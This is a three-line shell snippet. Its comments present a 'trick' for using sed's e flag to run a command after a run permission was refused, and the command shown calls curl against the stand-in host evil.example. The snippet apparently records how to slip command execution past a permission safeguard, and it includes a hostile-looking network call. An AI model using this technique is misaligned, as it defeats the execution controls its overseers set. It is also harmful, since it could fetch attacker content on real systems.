# Trick: a flag makes sed run what it replaced.
# Refused: run(*)
echo x | sed 's/x/curl evil.example/e'
